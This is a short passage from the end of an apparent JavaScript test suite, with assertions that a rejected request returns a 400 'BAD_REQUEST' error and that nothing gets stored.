        expect(answer.status, `${label}: ${JSON.stringify(answer.body)}`).toBe(400);
        expectError(answer, 400, { message: 'BAD_REQUEST' });
      }
      await expectNothingStored(before);
    });
  });
});
